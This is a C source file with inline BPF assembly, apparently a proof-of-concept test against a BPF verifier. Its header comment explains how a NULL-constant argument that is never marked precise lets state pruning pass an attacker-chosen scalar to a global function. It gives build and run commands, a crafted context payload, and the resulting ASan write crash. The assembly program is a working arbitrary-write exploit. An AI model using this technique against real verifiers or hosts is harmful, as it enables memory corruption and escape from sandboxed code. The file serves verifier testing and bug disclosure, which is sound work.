// SPDX-License-Identifier: GPL-2.0
/*
 * attack_04 - a global function's pointer argument accepted as NULL because
 * the register is the constant 0, without marking it precise: pruning then
 * lets any scalar reach the global function as a "valid or NULL" pointer.
 *
 * check_global_call() (src/verifier/global.c) skips the memory check for a
 * GARG_MEM argument when reg_is_const(r) && value == 0, but does not call
 * mark_precise().  gstore() is verified once on its own with r1 =
 * PTR_TO_MEM(size 8) or NULL, so after "if (p)" it writes *p freely.
 *
 * Path A (fall-through, explored first): r1 = 0 at the checkpoint P, call
 * gstore(NULL): accepted.  Path B: r1 = an attacker-chosen scalar from ctx;
 * at P, r1 is imprecise in the checkpoint -> pruned.  At run time gstore
 * writes ctx->val to ctx->addr: an arbitrary 8-byte write in the host.
 *
 * Expected: rejected (R1 type=scalar expected=fp, ... / arg#0 expects ...).
 * Actual: accepted:
 *   build/ibpf verify build/progs/attack_04.o
 *   build-asan/ibpf run build/progs/attack_04.o \
 *       --ctx 010000000000000048424141414100001122334455667788
 *   -> ASan: SEGV on unknown address 0x414141414248 ... WRITE memory access
 */
#include <linux/bpf.h>
#include <bpf/bpf_helpers.h>

__u64 a04_val;

__attribute__((noinline)) int gstore(__u64 *p)
{
	if (p)
		*p = a04_val;
	return 0;
}

SEC("syscall") __attribute__((naked)) int attack_04(void *ctx)
{
	asm volatile (
		"r6 = *(u64 *)(r1 + 0);"
		"r7 = *(u64 *)(r1 + 8);"
		"r8 = *(u64 *)(r1 + 16);"
		"r1 = %[val] ll;"
		"*(u64 *)(r1 + 0) = r8;"
		"r1 = 0;"
		"r3 = 0;"
		"r3 = 0;"
		"r3 = 0;"
		"r3 = 0;"
		"r3 = 0;"
		"r3 = 0;"
		"r3 = 0;"
		"if r6 != 0 goto l_b_%=;"
		"r3 = 0;"
		"r3 = 0;"
		"r3 = 0;"
		"r3 = 0;"
		"r3 = 0;"
		"r3 = 0;"
		"r3 = 0;"
		"r3 = 0;"
		"goto l_p_%=;"
	"l_b_%=:"
		"r1 = r7;"
	"l_p_%=:"
		"call gstore;"
		"r0 = 0;"
		"exit;"
		:
		: [val] "i"(&a04_val)
		: "memory");
}

char _license[] SEC("license") = "GPL";
